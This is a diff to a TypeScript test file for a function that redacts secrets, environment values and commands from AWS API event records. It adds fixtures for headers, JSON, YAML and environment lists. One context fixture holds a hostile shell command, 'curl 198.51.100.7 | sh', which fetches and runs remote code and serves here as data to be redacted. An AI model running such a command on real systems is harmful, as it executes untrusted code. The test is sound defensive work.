@@ -431,6 +431,7 @@ const READABLE_SHAPES: readonly (readonly [shape: string, value: unknown])[] = [
   ["ecs:RegisterTaskDefinition requestParameters.containerDefinitions[].image", "example/site:1.2"],
   ["ecs:RunTask requestParameters.overrides.containerOverrides[].command", ["sh", "-c", "curl 198.51.100.7 | sh"]],
   ["apigateway:PutIntegration requestParameters.putIntegrationInput.credentials", "arn:aws:iam::111122223333:role/api"],
+  ["apigateway:CreatePortal requestParameters.authorization", { cognitoConfig: { userPoolDomain: "d" } }],
   ["apigateway:DeleteApiKey requestParameters.apiKey", "a1b2c3d4e5"],
   [
     "cognito-idp:CreateUserPoolClient requestParameters.tokenValidityUnits",
@@ -545,6 +546,11 @@ const TEXTS: readonly (readonly [what: string, text: string, stays?: string])[] 
   ["XML", `<user>alice</user><password kind="x">${HUSH}</password>`, "alice"],
   ["SQL that makes a user", `CREATE USER app IDENTIFIED BY '${HUSH}'`, "app"],
   ["a value that was refused", `1 validation error: Value '${HUSH}' at 'masterUserPassword' failed`, "failed"],
+  ["a header with a scheme of its own", `send Authorization: Negotiate ${HUSH}`],
+  ["a quote within JSON that is cut", String.raw`{"user":"alice","password":"a\"${HUSH}","x`, "alice"],
+  ["only the value of a secret name", `name: DB_PASSWORD\nvalue: ${HUSH}\nname: PORT\nvalue: 80\n`, "value: 80"],
+  ["one value of a pair", `token name: api_token value: ${HUSH} value: 80`, "value: 80"],
+  ["an environment of pairs in YAML", `environment:\n  - name: DB_URL\n    value: ${HUSH}\n`, "name: DB_URL"],
   ["a name of two words", `Secret key: ${HUSH}`],
 ];
 
@@ -562,6 +568,30 @@ test("of an environment the names stay, of a list of variables too", () => {
   expect(redact({ environment: [{ name: "DB_URL", value: "x" }, { name: "EMPTY" }] })).toEqual({
     environment: [{ name: "DB_URL", value: REDACTED }, { name: "EMPTY" }],
   });
+});
+
+test("of an environment all values go, also those that are no secret elsewhere", () => {
+  const arn = "arn:aws:secretsmanager:us-east-1:111122223333:secret:d";
+  expect(redact({ environment: { A: "enabled", B: arn, C: 5 }, dbPassword: arn, httpToken: 5 })).toEqual({
+    environment: { A: REDACTED, B: REDACTED, C: REDACTED },
+    dbPassword: arn,
+    httpToken: 5,
+  });
+});
+
+test("the names stay in an environment that is spelled out as JSON", () => {
+  expect(redact({ variables: '{"DB_URL":"x"}' })).toEqual({ variables: `{"DB_URL":"${REDACTED}"}` });
+});
+
+test("names that people make up are secret wherever the word stands", () => {
+  expect(redact({ PASSWORD_PROD: "x", "x-token-old-api": "y", passwordPolicy: "z", password_rotation: "w" })).toEqual({
+    ...{ PASSWORD_PROD: REDACTED, "x-token-old-api": REDACTED },
+    ...{ passwordPolicy: "z", password_rotation: "w" },
+  });
+});
+
+test("of several commands not even the number stays", () => {
+  expect(redact({ parameters: { commands: ["id", "env"] } })).toEqual({ parameters: { commands: REDACTED } });
 });
 
 test("of credentials all goes but what they are known by", () => {
